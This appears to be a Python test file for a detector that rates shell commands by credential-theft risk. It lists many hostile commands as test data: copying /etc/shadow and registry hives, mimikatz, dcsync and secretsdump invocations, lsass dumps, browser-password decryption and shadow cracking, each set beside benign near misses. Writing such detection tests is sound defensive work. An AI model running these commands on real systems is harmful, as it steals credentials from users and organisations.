"""A credential store dumped, copied out or decrypted, by any program on any OS (issue 23, session 19 lane harvest:
rules/stores_copied.py, rules/stores_dumped.py, secrets_dumped.rule_named_for_dumping).  Each table holds the
mechanism's forms on many programs and stores, and the everyday near misses that must stay quiet beside them."""
from __future__ import annotations

from tests.safety.forms import each_form
from tests.safety.test_long_tail import judged, reaches, stays_quiet


@each_form("command,level", [
    # the machine's stores copied anywhere but beside themselves: high
    ("rsync -a /etc/master.passwd /var/tmp/mp", "high"),
    ("install -m 644 /etc/gshadow /dev/shm/g", "high"),
    ("dd if=/etc/shadow of=/tmp/.s bs=4k", "high"),
    ("base64 -w0 /etc/shadow > /tmp/s.b64", "high"),
    ("gio copy /etc/krb5.keytab /tmp/k.keytab", "high"),
    ("ditto /Library/Keychains/System.keychain /Users/Shared/sk", "high"),
    ("pv /var/lib/sss/db/cache_corp.ldb > /tmp/c.ldb", "high"),
    ("xxd /var/db/dslocal/nodes/Default/users/bob.plist > /tmp/b.hex", "high"),
    (r"certutil -encode C:\Windows\System32\config\SECURITY C:\Users\Public\s.b64", "high"),
    # one user's store carried to a temporary, public, shared or removable place, or packed: medium
    (r'Copy-Item "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default\Login Data" $env:TEMP\ld.db', "medium"),
    (r'robocopy "%APPDATA%\Microsoft\Protect" C:\Users\Public\p /E', "medium"),
    ("scp ~/Library/Keychains/login.keychain-db /Volumes/USB/", "medium"),
    ("cp /tmp/krb5cc_1000 /dev/shm/tgt", "medium"),
    ("zip -r /tmp/wifi.zip /etc/NetworkManager/system-connections", "medium"),
    ("cat ~/.mozilla/firefox/x.default/key4.db > /tmp/k4", "medium"),
    ("tar cf /tmp/kr.tar ~/.local/share/keyrings/login.keyring", "medium"),
    (r'esentutl.exe /y "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Network\Cookies" /d %TEMP%\c.db', "medium"),
    ("hdiutil create -srcfolder ~/Library/Keychains /tmp/k.dmg", "medium"),
    ("ditto -c -k --sequesterRsrc ~/Library/Keychains /tmp/k.zip", "medium"),
    # everyday: a copy beside it, whole trees backed up, the home's own backups, metadata, extraction
    ("cp /etc/shadow /etc/shadow.bak", None),
    ("tar czf etc-backup.tgz /etc", None),
    ("rsync -a ~/ /mnt/backup/home/", None),
    ("cp ~/Library/Keychains/login.keychain-db ~/Backups/", None),
    ("cp ~/.mozilla/firefox/x.default/logins.json ~/old-logins.json", None),
    ("ls -l /etc/shadow > perms.txt", None),
    ("sha256sum /etc/shadow > sums.txt", None),
    ("tar xzf backup.tgz etc/shadow", None),
    ("cp db.kdbx ~/Dropbox/db.kdbx", None),
])
def test_a_store_copied_away(command: str, level: str) -> None:
    assert reaches(command, level) if level else stays_quiet(command), judged(command)


@each_form("command,level", [
    # a credential module's command in any program's words
    (r"mimikatz dpapi::cred /in:C:\Users\bob\AppData\Roaming\Microsoft\Credentials\2647629F", "medium"),
    ('x64.exe "privilege::debug" "sekurlsa::ekeys" exit', "high"),
    ("""Invoke-Mimikatz -Command '"dpapi::chrome /in:Login Data /unprotect"'""", "medium"),
    (r"beacon> mimikatz dpapi::masterkey /in:C:\Users\b\AppData\Roaming\Microsoft\Protect\S-1-5-21\ab /rpc", "high"),
    ('loader.exe "ts::logonpasswords"', "high"),
    ('katz64 "kerberos::list /export"', "medium"),
    ('m.exe "vault::cred /patch"', "medium"),
    ('m.exe "lsadump::dcsync /domain:corp.local /all"', "high"),
    ('m.exe "lsadump::backupkeys /system:dc01 /export"', "high"),
    ("SharpDPAPI.exe backupkey /server:dc01 /file:key.pvk", "high"),
    # a hive read with its key, macOS' hashes, every hash joined
    ("samdump2 SYSTEM SAM -o sam.txt", "high"),
    ("python3 regsecrets.py -sam SAM -system SYSTEM LOCAL", "high"),
    (r"Get-ADDBAccount -All -DBPath C:\IFM\ntds.dit -BootKey $key", "high"),
    ("ntdsdotsqlite ntds.dit --system SYSTEM -o out.sqlite", "high"),
    ("cachedump SYSTEM SECURITY", "high"),
    ("dscl . -read /Users/bob ShadowHashData", "high"),
    ("plutil -extract ShadowHashData xml1 -o - bob.plist", "high"),
    ("unshadow /etc/passwd /etc/shadow > h.txt", "high"),
    ("getent shadow > /tmp/all", "high"),
    # the system's store tools asked for everything
    ("security dump-keychain -d login.keychain", "high"),
    ('security find-generic-password -wa "Chrome Safe Storage"', "high"),
    ('security find-generic-password -ga "Brave Safe Storage"', "high"),
    (r"netsh wlan export profile key=clear folder=C:\Users\Public", "medium"),
    ("netsh wlan show profile * key=clear", "medium"),
    # Kerberos keys and tickets harvested
    ("Rubeus.exe dump /nowrap", "medium"),
    ("Rubeus.exe harvest /interval:30", "medium"),
    ("Invoke-Kerberoast -OutputFormat Hashcat", "medium"),
    ("impacket-GetUserSPNs corp.local/bob:pw -request", "medium"),
    ("nxc ldap dc01 -u a -p b --kerberoasting out.txt", "medium"),
    ("klist -kKte /etc/krb5.keytab", "medium"),
    # a password manager's store exported in clear
    ("lpass export", "medium"),
    ("bw export --format csv --output /tmp/v.csv", "medium"),
    ("keepassxc-cli export -f csv db.kdbx", "medium"),
    # a store read into code that decrypts it, or into a database shell
    ("python3 -c \"import win32crypt, sqlite3; c = sqlite3.connect('Login Data'); "
     "win32crypt.CryptUnprotectData(b)\"", "high"),
    (r"""powershell -c "[Security.Cryptography.ProtectedData]::Unprotect([IO.File]::ReadAllBytes('C:\Users\b\AppData"""
     r"""\Roaming\Microsoft\Credentials\X'), $null, 'CurrentUser')" """, "high"),
    ('sqlite3 "Login Data" "select origin_url, username_value, password_value from logins"', "medium"),
    ("python3 dec.py ~/.mozilla/firefox/x.default/key4.db ~/.mozilla/firefox/x.default/logins.json", "medium"),
    # named for it, also as a script
    ("python3 secretsdump.py -sam sam.save -system system.save LOCAL", "high"),
    ("gsecdump -a", "medium"),
    ("keychaindump", "medium"),
    ("chainbreaker --dump-all login.keychain-db", "medium"),
    ("python3 firefox_decrypt.py", "medium"),
    ("SharpChrome.exe logins", "medium"),
    ("hack-browser-data -b chrome", "medium"),
    ("Get-GPPPassword", "medium"),
    ("python3 KeyTabExtract.py /etc/krb5.keytab", "medium"),
    ("SafetyKatz.exe", "medium"),
    # everyday: one entry asked for, listings, sign-ins, other tools' dumps
    ("klist", None), ("klist -kt /etc/krb5.keytab", None), ("cmdkey /list", None), ("kinit alice", None),
    ("ssh-add -l", None), ("security find-generic-password -s github -w", None),
    ("security find-identity -v -p codesigning", None), ("security dump-keychain login.keychain", None),
    ("netsh wlan show profile name=home key=clear", None),
    (r"netsh wlan export profile name=home folder=C:\cfg key=clear", None),
    ('mimikatz "dpapi::masterkey /list"', None), ('mimikatz "vault::list"', None), ('mimikatz "kerberos::list"', None),
    ('mimikatz "crypto::providers"', None), ("mimikatz", None),
    ("bw export --format encrypted_json", None), ("bw get password github", None), ("pass show github", None),
    ("keepassxc-cli show db.kdbx github", None), ("getent shadow alice", None), ("getent shadow", None),
    ("cat /etc/passwd", None), ("sam deploy --guided", None), ("systemctl status systemd-journald", None),
    ("pw-dump", None), ("yt-dlp --cookies-from-browser firefox https://example.com/v", None),
    (r"icacls C:\Windows\System32\config\SAM", None), (r"Get-FileHash C:\Windows\System32\config\SAM", None),
    ("Get-Credential", None), ("Rubeus.exe triage", None), ("secretsdump.py -h", None),
])
def test_a_store_dumped_or_decrypted(command: str, level: str) -> None:
    assert reaches(command, level) if level else stays_quiet(command), judged(command)


@each_form("command,level", [
    # lsass' memory dumped by any program that names it
    ("adplus.exe -hang -pn lsass.exe -o C:\\temp", "high"),
    ("PPLBlade.exe --mode dump --name lsass.exe", "high"),
    ("ppldump.exe lsass C:\\Windows\\Temp\\l.dmp", "high"),
    ("createdump.exe -f C:\\temp\\l.dmp $(Get-Process lsass).Id", "high"),
    # a password hive saved whole by any program
    ("regedit /e C:\\temp\\sam.reg HKEY_LOCAL_MACHINE\\SAM", "high"),
    ("python3 reg.py corp/admin@10.0.0.9 save -keyName HKLM\\SECURITY -o \\\\10.0.0.5\\share", "high"),
    # a store read into a pipe whose end writes a file
    ("cat /etc/shadow | tee /tmp/x", "high"),
    ("cat /etc/shadow | base64 > /tmp/s.b64", "high"),
    ("sudo cat /etc/NetworkManager/system-connections/Home.nmconnection | tee /dev/shm/h", "medium"),
    ("strings /tmp/krb5cc_0 | gzip > /var/tmp/t.gz", "medium"),
    # everyday: lsass' file or its listing, other processes' dumps, other keys, counts, the home's own copies
    ("dumpbin /headers C:\\Windows\\System32\\lsass.exe", None), ('tasklist /fi "imagename eq lsass.exe"', None),
    ("Get-Process lsass", None), ("procdump -ma notepad.exe", None),
    ("regedit /e C:\\backup\\soft.reg HKLM\\SOFTWARE", None),
    ('regedit /e C:\\x.reg "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip"', None),
    ("grep -v '^#' /etc/shadow | wc -l > count", None), ("cat /etc/passwd | tee /tmp/x", None),
    ("cat ~/.mozilla/firefox/x/logins.json | jq . > ~/logins-pretty.json", None),
])
def test_memory_hives_and_pipes(command: str, level: str) -> None:
    assert reaches(command, level) if level else stays_quiet(command), judged(command)


@each_form("command,level", [
    ("wbadmin start backup -backuptarget:e: -include:c:\\windows\\ntds -quiet", "high"),
    ('security find-generic-password -wa "Chrome"', "high"),
    ("security find-generic-password -wa Brave", "high"),
    ("$v.RetrieveAll() | % { $_.RetrievePassword(); $_ }", "medium"),
    ("secret-tool search --all --unlock service smb", "medium"),
    ('kekeo "tgt::deleg" exit', "medium"),
    ('sqlite3 ~/.config/gcloud/credentials.db "select * from credentials"', "medium"),
    ("john --format=sha512crypt /etc/shadow", "high"),
    ("hashcat -m 1800 /etc/shadow rockyou.txt", "high"),
    ("KeeThief.exe", "medium"),
    ("samdump2 /tmp/system /tmp/sam", "high"),
    # the dumpers known by name run as an interpreter's script
    ("python3 dploot.py triage -d corp -u a -p b dc01", "medium"),
    ("python3 lsassy.py -d corp -u a -p b 10.0.0.5", "medium"),
    ("py -3 pypykatz.py lsa minidump lsass.dmp", "medium"),
    ("python3 DonPAPI.py collect -u a -p b -d corp -t ALL", "medium"),
    # everyday: cracking one's own test hashes, a one-network or one-item lookup, a backup of data, a search
    ("john --wordlist=rockyou.txt hashes.txt", None), ("hashcat -m 0 hashes.txt rockyou.txt", None),
    ("secret-tool lookup service smb user bob", None), ("secret-tool search service smb", None),
    ('security find-generic-password -a bob -s "AirPort" -w', None),
    ("wbadmin start backup -backuptarget:e: -include:c:\\data -quiet", None),
    ("sqlite3 ~/.config/gcloud/configurations.db .tables", None),
    ("grep -r foo /etc/security /etc/systemd/system", None), ("python3 lsassy.py --help", None),
    ("cp config/security /tmp/sec", None),
])
def test_more_stores_and_tools(command: str, level: str) -> None:
    assert reaches(command, level) if level else stays_quiet(command), judged(command)
